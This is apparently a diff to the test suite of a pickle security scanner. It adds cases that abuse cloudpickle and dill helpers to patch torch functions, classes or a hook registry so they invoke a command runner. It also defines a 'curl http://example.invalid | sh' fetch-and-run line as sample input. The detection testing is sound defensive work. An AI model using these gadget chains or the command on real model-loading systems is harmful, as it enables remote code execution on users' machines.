@@ -9,7 +9,7 @@ import pytest
 
 from hostile_parts import COMMAND, SYSTEM, call, written
 from picklegate import Verdict, scan_bytes
-from picklegate.training.tree import Build, Call, Name, New
+from picklegate.training.tree import Build, Call, Name, New, Then
 
 _RUN = Name("package.tools", "run_command")
 _DOWNLOAD = "curl http://example.invalid | sh"
@@ -24,7 +24,21 @@ def _undefined(assumptions: dict[str, Any], *args: Any) -> New:
     return New(call("sympy.core.function", "_rebuild_undef", "f", assumptions), args)
 
 
+_CODE = call("types", "CodeType", 0, 0, 0, 0, 1, 3, b"d\x00S\x00", (None,), (), (), "f", "f", 1, b"", (), ())
+_SLOTS: dict[str, Any] = {"__globals__": {}, "__closure__": None, "_cloudpickle_submodules": [], "__code__": _CODE}
+_PATCHED = Name("torch._utils", "_rebuild_parameter")
+
+
+def _cloudpickle(name: str, *args: Any) -> Call:
+    return call("cloudpickle.cloudpickle", name, *args)
+
+
 _HOSTILE = {
+    "function-of-torch-changed": _cloudpickle("_function_setstate", _PATCHED, ({}, _SLOTS)),
+    "function-of-torch-filled": _cloudpickle("_fill_function", _PATCHED, {"code": _CODE}),
+    "class-changed": _cloudpickle("_class_setstate", Name("collections", "OrderedDict"), ({"update": _RUN}, {})),
+    "dict-of-a-module-changed": _dill("_setitems", Name("package.registry", "HOOKS"), {"save": _RUN}),
+    "skeleton": _cloudpickle("_make_skeleton_class", _RUN, _DOWNLOAD, (), {}, None, None),
     "type": _dill("_create_type", _RUN, _DOWNLOAD),
     "type-primitive": _dill("_create_type", SYSTEM, COMMAND),
     "array": _dill("_create_array", _RUN, (_DOWNLOAD,), (), None),
@@ -47,7 +61,11 @@ def test_what_a_helper_calls_is_judged(name: str) -> None:
 _TYPE = _dill("_load_type", "type")
 _ARRAY = (Name("numpy", "ndarray"), (0,), b"b")
 _STATE = (1, (2,), call("numpy", "dtype", "f4", False, True), False, bytes(8))
+_META = _cloudpickle(
+    "_make_skeleton_class", Name("package.meta", "Meta"), "Model", (Name("torch", "nn"),), {}, "i", None
+)
 _HONEST = {
+    "class-of-a-metaclass": New(Then((_cloudpickle("_class_setstate", _META, ({"size": 3}, {})),), _META)),
     "namedtuple": [Call(_dill("_create_namedtuple", "Point", ("x", "y"), "__main__"), (1, 2))],
     "class": New(_dill("_create_type", _TYPE, "Model", (_dill("_load_type", "object"),), {"__module__": "__main__"})),
     "array": _dill("_create_array", Name("numpy.core.multiarray", "_reconstruct"), _ARRAY, _STATE, None),
